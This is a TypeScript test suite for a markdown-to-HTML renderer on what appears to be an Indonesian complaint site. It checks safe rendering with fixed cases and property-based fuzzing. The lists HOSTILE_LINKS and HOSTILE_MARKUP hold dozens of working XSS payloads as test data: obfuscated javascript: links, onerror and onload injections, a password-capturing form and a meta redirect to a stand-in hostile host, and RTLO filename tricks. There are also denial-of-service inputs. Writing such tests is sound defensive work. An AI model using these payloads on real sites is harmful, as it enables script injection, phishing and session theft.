import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainText, renderMarkdown } from './markdown';

const REL = 'rel="nofollow ugc noopener"';
const link = (href: string, label: string) => `<a href="${href}" ${REL}>${label}</a>`;

/** The whole of what may ever come out, spelt as strictly as a browser could be fooled. */
const ALLOWED_TAG =
	/<(?:\/?(?:p|h[3-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a)|ol start="\d+"|br \/|hr \/|a href="(?:https?:\/\/|mailto:|\/(?!\/)|#)[^"<>\s\\]*" rel="nofollow ugc noopener")>/gi;

const remainderOf = (html: string) => html.replace(ALLOWED_TAG, '');

describe('what people write', () => {
	it.each([
		['paragraph and line break', 'Satu\ndua\n\nTiga', '<p>Satu<br />dua</p>\n<p>Tiga</p>'],
		['emphasis', '**tebal** *miring* ~~coret~~', '<p><strong>tebal</strong> <em>miring</em> <del>coret</del></p>'],
		['headings start at h3', '# Satu\n\n## Dua', '<h3>Satu</h3>\n<h4>Dua</h4>'],
		['deep headings stay headings', '###### Enam', '<h6>Enam</h6>'],
		['list that starts later', '3. tiga\n4. empat', '<ol start="3">\n<li>tiga</li>\n<li>empat</li>\n</ol>'],
		['tasks', '- [x] sudah\n- [ ] belum', '<ul>\n<li>☑ sudah</li>\n<li>☐ belum</li>\n</ul>'],
		['code', '```html\n<b>\n```', '<pre><code>&lt;b&gt;\n</code></pre>'],
		['link', '[Perda](https://a.go.id/?a=1&b=2)', `<p>${link('https://a.go.id/?a=1&amp;b=2', 'Perda')}</p>`],
		['bare address', 'lihat https://a.go.id', `<p>lihat ${link('https://a.go.id', 'https://a.go.id')}</p>`],
		['own page', '[laporan](/pengaduan/7Q4M-2K9X)', `<p>${link('/pengaduan/7Q4M-2K9X', 'laporan')}</p>`],
		['mail', '<halo@a.go.id>', `<p>${link('mailto:halo@a.go.id', 'halo@a.go.id')}</p>`],
		[
			'picture becomes its words',
			'![foto jalan](https://x.id/a.png)',
			`<p>${link('https://x.id/a.png', 'foto jalan')}</p>`
		],
		['comparison signs', 'harga < 5 & > 3', '<p>harga &lt; 5 &amp; &gt; 3</p>'],
		['Arabic and emoji stay', 'السلام عليكم 👩‍🌾', '<p>السلام عليكم 👩‍🌾</p>'],
		['nothing', '   \n', '']
	])('%s', (_, source, html) => expect(renderMarkdown(source)).toBe(html));

	it('keeps tables', () => {
		expect(renderMarkdown('|a|b|\n|-|-:|\n|1|2|')).toMatch(/<table>[^]*<th>a<\/th>[^]*<td>2<\/td>[^]*<\/table>/);
	});
});

const HOSTILE_LINKS = [
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x]( javascript:alert(1))',
	'[x](<java\tscript:alert(1)>)',
	'[x](java&#115;cript:alert(1))',
	'[x](java&#x73;cript:alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](javascript&colon;alert(1))',
	'[x](\u0001javascript:alert(1))',
	'[x](java\u0000script:alert(1))',
	'[x](javascript://a.go.id/%0aalert(1))',
	'[x](jav%61script:alert(1))',
	'[x]: javascript:alert(1)\n\n[x]',
	'<javascript:alert(1)>',
	'[x](vbscript:msgbox(1))',
	'[x](data:text/html;base64,PHNjcmlwdD4=)',
	'[x](data:image/svg+xml,<svg/onload=alert(1)>)',
	'[x](file:///etc/passwd)',
	'[x](blob:https://a.go.id/1)',
	'[x](tel:112)',
	'[x](//jahat.example)',
	'[x](</\t/jahat.example>)',
	'[x](/\\jahat.example)',
	'[x](\\\\jahat.example)',
	'[x](https:jahat.example)',
	'[x](https://bank.go.id@jahat.example)',
	'[x](https://)',
	'[x](jahat.example)',
	'![x](javascript:alert(1))',
	'![x](data:text/html,1)',
	'[![x](javascript:alert(1))](javascript:alert(2))'
];

const HOSTILE_MARKUP = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//jahat.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<img src=x onerror=alert(1)>',
	'<img src="https://jahat.example/pixel.gif">',
	'<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<style>body{display:none}</style>',
	'<p style="position:fixed" onclick="alert(1)">x</p>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<a href="javascript:alert(1)">x</a>',
	'<form action="https://jahat.example"><input name=sandi></form>',
	'<base href="https://jahat.example/">',
	'<meta http-equiv=refresh content="0;url=//jahat.example">',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<?php echo 1 ?><script>alert(1)</script>',
	'<div>\n\n<script>alert(1)</script>\n\n</div>',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;',
	'```\n</code></pre><script>alert(1)</script>\n```',
	'```"><script>alert(1)</script>\nx\n```',
	'`</code><script>alert(1)</script>`',
	'# <script>alert(1)</script>',
	'|<script>|\n|-|\n|<img src=x onerror=alert(1)>|',
	'![" onerror="alert(1)](https://a.go.id/x.png)',
	'![<script>alert(1)</script>](x)',
	'[<img src=x onerror=alert(1)>](https://a.go.id)',
	'[x](https://a.go.id "onmouseover=alert(1) x=\\"")',
	'[x](https://a.go.id/"onmouseover="alert(1))',
	"[x](https://a.go.id/'onmouseover='alert(1))",
	'[x](<https://a.go.id/"><script>alert(1)</script>>)',
	'https://a.go.id/"onmouseover="alert(1)',
	'[x][y]\n\n[y]: https://a.go.id "><script>alert(1)</script>"',
	'\u{e0001}<script\u2028>alert(1)</script\u0000>',
	'<\u0000script>alert(1)</script>',
	'\ud800<script>\udc00'
];

describe('hostile text', () => {
	it.each(HOSTILE_LINKS)('leads nowhere: %j', (source) => {
		const html = renderMarkdown(source);
		expect(html).not.toContain('<a ');
		expect(remainderOf(html)).not.toMatch(/[<>]/);
	});

	it.each(HOSTILE_MARKUP)('is shown and not run: %j', (source) => {
		expect(remainderOf(renderMarkdown(source))).not.toMatch(/[<>]/);
	});

	it('shows the tag that was typed', () => {
		expect(renderMarkdown('Halo <script>alert(1)</script>')).toBe('<p>Halo &lt;script&gt;alert(1)&lt;/script&gt;</p>');
	});

	it.each(['\u202e', '\u2066', '\u0007', '&#x202e;', '&#8238;', '\ufeff'])('loses the invisible %j', (trap) => {
		expect(renderMarkdown(`gpj.${trap}exe`)).toBe('<p>gpj.exe</p>');
	});
});

const nest = (open: string, close: string, times: number) => open.repeat(times) + 'a' + close.repeat(times);

describe('text built to be costly is answered all the same', () => {
	it.each([
		['quotes', '>'.repeat(90_000)],
		['spaced quotes', '> '.repeat(45_000) + 'a'],
		['bullets on a line', '- '.repeat(45_000)],
		['numbers on a line', '1. '.repeat(30_000)],
		['quotes and bullets', '> - '.repeat(20_000) + 'a'],
		['bullets by indent', Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n')],
		['brackets', '['.repeat(90_000)],
		['links', nest('[', '](x)', 20_000)],
		['pictures', nest('![', '](x)', 15_000)],
		['emphasis', '*a **b '.repeat(5000) + 'c** d*'.repeat(5000)],
		['spaces', `a${' '.repeat(90_000)}b`],
		['one word', 'a'.repeat(90_000) + '@'],
		['address', `http://a${'!'.repeat(90_000)}`],
		['tags', '<a '.repeat(30_000)],
		['comments', '<!--'.repeat(20_000)],
		['too long', 'kata '.repeat(100_000)]
	])('%s', (_, source) => {
		expect(remainderOf(renderMarkdown(source))).not.toMatch(/[<>]/);
	});
});

const anyText = fc.oneof(
	fc.string({ unit: 'binary', maxLength: 200 }),
	fc
		.array(
			fc.constantFrom(
				...[
					'<',
					'>',
					'"',
					"'",
					'&',
					'#',
					'`',
					'```\n',
					'[',
					']',
					'(',
					')',
					'!',
					'\\',
					'/',
					'*',
					'_',
					'~',
					'|',
					'-',
					'\n',
					'\n\n',
					' '
				],
				...[
					'javascript:',
					'data:',
					'https://a.id',
					'//',
					'script',
					'img src=x',
					' onerror=',
					'&#60;',
					'&lt;',
					'\u0000',
					'\u202e',
					'a',
					'    '
				]
			),
			{ maxLength: 60 }
		)
		.map((parts) => parts.join(''))
);

describe('for any text at all', () => {
	it('comes out with allowed tags and attributes only', () => {
		fc.assert(
			fc.property(anyText, (source) => {
				expect(remainderOf(renderMarkdown(source))).not.toMatch(/[<>]/);
			}),
			{ numRuns: 2000 }
		);
	});

	it('gives plain text within its length, on one line', () => {
		fc.assert(
			fc.property(anyText, fc.nat(80), (source, maxLength) => {
				const text = plainText(source, maxLength);
				expect(text.length).toBeLessThanOrEqual(maxLength);
				expect(text).not.toMatch(/[\n\t]/);
				expect(text.isWellFormed()).toBe(true);
			})
		);
	});
});

describe('plain text', () => {
	it.each([
		['# Judul\n\nIsi **tebal**, [tautan](https://a.go.id).', 100, 'Judul Isi tebal, tautan.'],
		['a < b & "c"', 100, 'a < b & "c"'],
		['&amp;lt;', 100, '&lt;'],
		['- satu\n- dua', 100, 'satu dua'],
		['Jalan rusak di depan pasar', 14, 'Jalan rusak…'],
		['Jalan rusak di depan pasar', 12, 'Jalan rusak…'],
		['Jalanrusakdidepanpasar', 6, 'Jalan…'],
		['👍👍👍', 4, '👍…'],
		['apa', 3, 'apa'],
		['apa saja', 0, '']
	])('%j in %i', (source, maxLength, text) => expect(plainText(source, maxLength)).toBe(text));
});
